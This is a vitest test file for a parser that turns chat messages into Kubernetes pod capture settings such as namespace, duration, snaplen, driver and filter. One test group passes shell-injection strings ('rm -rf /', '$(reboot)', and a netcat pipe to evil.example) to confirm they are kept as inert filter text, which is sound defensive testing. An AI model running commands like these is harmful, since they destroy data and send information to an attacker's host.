import { describe, expect, it } from 'vitest';
import type { CaptureLimits, CaptureSpec } from './capture-spec.js';
import { parseCaptureCommand } from './grammar.js';

const LIMITS: CaptureLimits = { minDurationSeconds: 1, maxDurationSeconds: 300, maxSnaplen: 4096, defaultDriver: 'modern-bpf' };

/** The spec a command with only a pod gives under LIMITS, with the fields a row changes. */
function spec(changes: Partial<CaptureSpec> = {}): CaptureSpec {
  return { pod: 'web-1', namespace: 'default', durationSeconds: 30, snaplen: 80, driver: 'modern-bpf', ...changes };
}

const POD_253 = `${'a'.repeat(61)}.${'b'.repeat(63)}.${'c'.repeat(63)}.${'d'.repeat(63)}`;
const NAMESPACE_63 = `ns-${'x'.repeat(60)}`;

describe('parseCaptureCommand accepts', () => {
  it.each<[string, CaptureSpec]>([
    ['ticket-balancer-5967c66fb4-qnzj6 -n ticket-generator 30s', spec({ pod: 'ticket-balancer-5967c66fb4-qnzj6', namespace: 'ticket-generator' })],
    ['web-1', spec()],
    ['web-1 2m', spec({ durationSeconds: 120 })],
    ['web-1 1m30s', spec({ durationSeconds: 90 })],
    ['web-1 45', spec({ durationSeconds: 45 })],
    ['web-1 1s', spec({ durationSeconds: 1 })],
    ['web-1 5m', spec({ durationSeconds: 300 })],
    ['web-1 300', spec({ durationSeconds: 300 })],
    ['web-1 -M 60', spec({ durationSeconds: 60 })],
    ['web-1 -M=60', spec({ durationSeconds: 60 })],
    ['web-1 -n prod', spec({ namespace: 'prod' })],
    ['web-1 -ns prod', spec({ namespace: 'prod' })],
    ['web-1 --namespace prod', spec({ namespace: 'prod' })],
    ['web-1 --namespace=prod', spec({ namespace: 'prod' })],
    ['web-1 -n=prod', spec({ namespace: 'prod' })],
    ['web-1 -ns=prod', spec({ namespace: 'prod' })],
    ['-n prod web-1', spec({ namespace: 'prod' })],
    ['-ns prod -M 90 web-1', spec({ namespace: 'prod', durationSeconds: 90 })],
    ['web-1 2m -n prod', spec({ namespace: 'prod', durationSeconds: 120 })],
    ['web-1 -s 256', spec({ snaplen: 256 })],
    ['web-1 --snaplen 256', spec({ snaplen: 256 })],
    ['web-1 --snaplen=4096', spec({ snaplen: 4096 })],
    ['web-1 -s=1', spec({ snaplen: 1 })],
    ['web-1 --driver kmod', spec({ driver: 'kmod' })],
    ['web-1 --driver ebpf', spec({ driver: 'ebpf' })],
    ['web-1 --driver modern-bpf', spec({ driver: 'modern-bpf' })],
    ['web-1 --driver=kmod', spec({ driver: 'kmod' })],
    ['web-1 --driver eBPF', spec({ driver: 'ebpf' })],
    ['web-1 --ebpf', spec({ driver: 'ebpf' })],
    ['web-1 --ebpf --driver ebpf', spec({ driver: 'ebpf' })],
    ['web-1 --driver=ebpf --ebpf', spec({ driver: 'ebpf' })],
    ['web-1 -- proc.name=nginx', spec({ filter: 'proc.name=nginx' })],
    ['web-1 -- "proc.name=nginx and fd.port=80"', spec({ filter: 'proc.name=nginx and fd.port=80' })],
    ["web-1 -- 'proc.name=nginx'", spec({ filter: 'proc.name=nginx' })],
    [`web-1 -- "evt.buffer contains 'GET /'"`, spec({ filter: "evt.buffer contains 'GET /'" })],
    ['web-1 -- proc.name in ("nginx", "envoy")', spec({ filter: 'proc.name in ("nginx", "envoy")' })],
    ['web-1 --   proc.name=nginx   and  fd.port=80  ', spec({ filter: 'proc.name=nginx   and  fd.port=80' })],
    ['web-1 -- proc.name=nginx -- -w /tmp/x', spec({ filter: 'proc.name=nginx -- -w /tmp/x' })],
    ['web-1 -n prod 2m -s 128 --driver kmod -- fd.port=443', spec({ namespace: 'prod', durationSeconds: 120, snaplen: 128, driver: 'kmod', filter: 'fd.port=443' })],
    ['  web-1\t-n\tprod  ', spec({ namespace: 'prod' })],
    ['web-1\n-n prod\n', spec({ namespace: 'prod' })],
    ['web-1.shop.v2 -n kube-system', spec({ pod: 'web-1.shop.v2', namespace: 'kube-system' })],
    ['3scale-apicast-0', spec({ pod: '3scale-apicast-0' })],
    [`${POD_253} -n ${NAMESPACE_63}`, spec({ pod: POD_253, namespace: NAMESPACE_63 })],
  ])('%j', (text, expected) => {
    expect(parseCaptureCommand(text, LIMITS)).toStrictEqual({ kind: 'capture', spec: expected });
  });
});

describe('parseCaptureCommand keeps shell-looking text after -- as one filter', () => {
  it.each([
    ['web-1 -- ; rm -rf /', '; rm -rf /'],
    ['web-1 -- $(reboot)', '$(reboot)'],
    ['web-1 -- `id` | nc evil.example 80 && echo done', '`id` | nc evil.example 80 && echo done'],
    ['web-1 -- proc.name=x; -w /tmp/x', 'proc.name=x; -w /tmp/x'],
  ])('%j', (text, filter) => {
    const parsed = parseCaptureCommand(text, LIMITS);
    expect(parsed).toStrictEqual({ kind: 'capture', spec: spec({ filter }) });
  });
});

describe('parseCaptureCommand decodes what Slack and phones did to the text', () => {
  it.each<[string, CaptureSpec]>([
    ['web-1 -- fd.port &gt;= 1024 and fd.port &lt; 2048', spec({ filter: 'fd.port >= 1024 and fd.port < 2048' })],
    ['<http://web-1.shop|web-1.shop> -n prod', spec({ pod: 'web-1.shop', namespace: 'prod' })],
    ['web-1 -- fd.name=<http://example.com|example.com>', spec({ filter: 'fd.name=example.com' })],
    ['web-1 —namespace prod —snaplen 200', spec({ namespace: 'prod', snaplen: 200 })],
    ['web-1 –n prod –s 200 –M 60', spec({ namespace: 'prod', snaplen: 200, durationSeconds: 60 })],
    ['web-1 —ns=prod —ebpf', spec({ namespace: 'prod', driver: 'ebpf' })],
    ['web-1 — proc.name=nginx', spec({ filter: 'proc.name=nginx' })],
    ['web-1 – proc.name=nginx', spec({ filter: 'proc.name=nginx' })],
    ['web-1 -- “proc.name=nginx and fd.port=80”', spec({ filter: 'proc.name=nginx and fd.port=80' })],
    ['web-1 -- proc.name=‘nginx’', spec({ filter: "proc.name='nginx'" })],
    ['web-1\u00a0-n\u00a0prod\u202f2m', spec({ namespace: 'prod', durationSeconds: 120 })],
    ['web-1 -n prod\u200b', spec({ namespace: 'prod' })],
  ])('%j', (text, expected) => {
    expect(parseCaptureCommand(text, LIMITS)).toStrictEqual({ kind: 'capture', spec: expected });
  });
});

describe('parseCaptureCommand asks for help', () => {
  it.each(['', '   ', '\n', 'help', 'HELP', '-h', '--help', '—help', 'web-1 -h', 'web-1 -n prod --help', 'web-1 -w x --help'])(
    '%j',
    (text) => {
      expect(parseCaptureCommand(text, LIMITS)).toStrictEqual({ kind: 'help' });
    },
  );

  it.each([
    ['Help me', 'me'],
    ['help web-1', 'web-1'],
  ])('%j is help with an unknown topic, answered with the list of topics', (text, word) => {
    expect(parseCaptureCommand(text, LIMITS)).toStrictEqual({ kind: 'help', unknownTopic: word });
  });
});

describe('parseCaptureCommand applies the limits from settings', () => {
  const wide: CaptureLimits = { minDurationSeconds: 5, maxDurationSeconds: 600, maxSnaplen: 65_535, defaultDriver: 'kmod' };

  it('uses the default driver and allows what the wider limits allow', () => {
    expect(parseCaptureCommand('web-1 10m -s 65535', wide)).toStrictEqual({
      kind: 'capture',
      spec: spec({ durationSeconds: 600, snaplen: 65_535, driver: 'kmod' }),
    });
    expect(parseCaptureCommand('web-1 --ebpf', wide)).toMatchObject({ kind: 'capture', spec: { driver: 'ebpf' } });
  });

  it('refuses below the minimum duration, naming the minimum', () => {
    expect(parseCaptureCommand('web-1 4s', wide)).toStrictEqual({ kind: 'invalid', problem: 'The duration `4s` is shorter than the minimum of 5s.', corrected: 'web-1 5s' });
  });

  it('keeps the default duration of 30s inside the limits', () => {
    const short = { ...LIMITS, maxDurationSeconds: 20 };
    const long = { ...LIMITS, minDurationSeconds: 60 };
    expect(parseCaptureCommand('web-1', short)).toMatchObject({ kind: 'capture', spec: { durationSeconds: 20 } });
    expect(parseCaptureCommand('web-1', long)).toMatchObject({ kind: 'capture', spec: { durationSeconds: 60 } });
  });

  it('refuses a snaplen over a lower limit', () => {
    const parsed = parseCaptureCommand('web-1 -s 100', { ...LIMITS, maxSnaplen: 64 });
    expect(parsed).toStrictEqual({ kind: 'invalid', problem: 'The snaplen `100` is over the limit of 64 bytes.', corrected: 'web-1 -s 64' });
  });
});
